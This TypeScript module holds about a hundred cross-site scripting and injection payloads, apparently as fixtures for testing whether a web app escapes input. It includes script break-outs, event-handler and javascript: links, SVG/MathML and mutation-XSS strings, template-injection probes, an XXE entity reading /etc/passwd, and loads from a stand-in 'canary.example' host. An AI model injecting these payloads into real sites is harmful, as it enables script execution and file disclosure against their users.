/** Host that a payload contacts when it gets through; the others call `alert`. */
export const CANARY = 'canary.example';

const BREAK_OUTS = [
  '<script>alert(1)</script>',
  '"><script>alert(1)</script>',
  "'><script>alert(1)</script>",
  '</script><script>alert(1)</script>',
  '</title></script><script>alert(1)</script>',
  '</textarea><script>alert(1)</script>',
  '</style><script>alert(1)</script>',
  '</head><body onload=alert(1)>',
  '<!--><img src=x onerror=alert(1)>-->',
  '--><script>alert(1)</script><!--',
  ']]><script>alert(1)</script>',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<?xml version="1.0"?><script>alert(1)</script>',
  '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;',
  '<script type="application/ld+json">{"@id":"x"}</script>',
  '"}]</script><script>alert(1)//',
  '","url":"javascript:alert(1)","x":"',
  '<!--<script>alert(1)//',
  '<script>/*</script><script>*/alert(1)</script>',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<meta property="og:image" content="//canary.example/a.png">',
  '<link rel="stylesheet" href="//canary.example/a.css">',
  '<base href="//canary.example/">',
  '</content></entry><entry><title>x</title></entry>',
  '</loc></url><url><loc>//canary.example/</loc></url>',
];

const HANDLERS = [
  '<img src=x onerror=alert(1)>',
  '"><img src=x onerror=alert(1)>',
  '" onmouseover="alert(1)" x="',
  "' autofocus onfocus='alert(1)' x='",
  '` onmouseover=alert(1) x=`',
  '<img/src="x"/onerror=alert(1)>',
  '<IMG SRC=x OnErRoR=alert(1)>',
  '<img src=x:x onerror =alert(1)>',
  '<img """><script>alert(1)</script>">',
  '<body onload=alert(1)>',
  '<details open ontoggle=alert(1)>x</details>',
  '<video><source onerror=alert(1)></video>',
  '<audio src=x onerror=alert(1)></audio>',
  '<input autofocus onfocus=alert(1)>',
  '<select autofocus onfocus=alert(1)></select>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<div onpointerenter=alert(1) style="position:fixed;inset:0">x</div>',
  '<div style="animation:x 1s" onanimationstart=alert(1)>x</div>',
  '<x tabindex=1 autofocus onfocus=alert(1)>x</x>',
  '<object data="x" onerror=alert(1)></object>',
  '<dialog open onclose=alert(1)>x</dialog>',
  '<button popovertarget=p>x</button><p popover id=p onbeforetoggle=alert(1)>x</p>',
];

const LINKS = [
  '<a href="javascript:alert(1)">x</a>',
  '<a href="java&#09;script:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href=" javascript:alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="vbscript:alert(1)">x</a>',
  '[x](javascript:alert(1))',
  '![x](//canary.example/a.png)',
  'javascript:alert(1)',
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  '<form action="javascript:alert(1)"><button>x</button></form>',
  '<button formaction="javascript:alert(1)" form=x>x</button>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
  '<embed src="javascript:alert(1)">',
  '<object data="javascript:alert(1)"></object>',
  '<img src="//canary.example/b.png">',
  '<img srcset="//canary.example/c.png 1x">',
];

const SVG_AND_MATHML = [
  '"><svg/onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><script href="data:text/javascript,alert(1)"/></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text y="9">x</text></a></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><set attributeName=onmouseover to=alert(1)></svg>',
  '<svg><use href="//canary.example/d.svg#x"/></svg>',
  '<svg><image href="//canary.example/e.png"/></svg>',
  '<svg><foreignObject><iframe srcdoc="<script>parent.alert(1)</script>"/></foreignObject></svg>',
  '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>',
  '<math href="javascript:alert(1)">x</math>',
];

const MUTATIONS = [
  '<math><mtext><style><img src=x onerror=alert(1)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<math><mtext><table><mglyph><style><!--</style><img title="--><img src=1 onerror=alert(1)>">',
  '<svg><style>&lt;img src=x onerror=alert(1)&gt;</style></svg>',
  '<template><script>alert(1)</script></template>',
  '<xmp><p title="</xmp><img src=x onerror=alert(1)>">',
  '<table><td><img src=x onerror=alert(1)></table>',
];

const STYLES_TEMPLATES_ENCODINGS = [
  '<style>@import "//canary.example/f.css";</style>',
  '<div style="background:url(//canary.example/g.png)">x</div>',
  '<p style="list-style:url(//canary.example/h.png);display:list-item">x</p>',
  '{{constructor.constructor("alert(1)")()}}',
  '{{7*7}}${7*7}#{7*7}<%= 7*7 %>',
  '${alert(1)}',
  '`;alert(1);`',
  '&lt;img src=x onerror=alert(1)&gt;',
  '&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;',
  '%3Cscript%3Ealert(1)%3C/script%3E',
  '\\u003cscript\\u003ealert(1)\\u003c/script\\u003e',
  '＜script＞alert(1)＜/script＞',
  "$& $` $' $$ $1 $<x>",
  '+ADw-script+AD4-alert(1)+ADw-/script+AD4-',
  '__FIRST_VIEW__ __CSP_NONCE__ __PUBLIC_URL__ <!-- view of this page -->',
];

/** Ways into a page that others have missed, a hundred of them, each on one line as a name or a paragraph would be. */
export const PAYLOADS: readonly string[] = [
  ...BREAK_OUTS,
  ...HANDLERS,
  ...LINKS,
  ...SVG_AND_MATHML,
  ...MUTATIONS,
  ...STYLES_TEMPLATES_ENCODINGS,
];

/** The payloads in as few texts of at most `limit` letters as they fill, a line each. */
export function payloadTexts(limit: number): string[] {
  const texts: string[] = [];
  for (const payload of PAYLOADS) {
    const last = texts.at(-1);
    const joined = `${last ?? ''}\n${payload}`;
    if (last !== undefined && joined.length <= limit) texts[texts.length - 1] = joined;
    else texts.push(payload);
  }
  return texts;
}
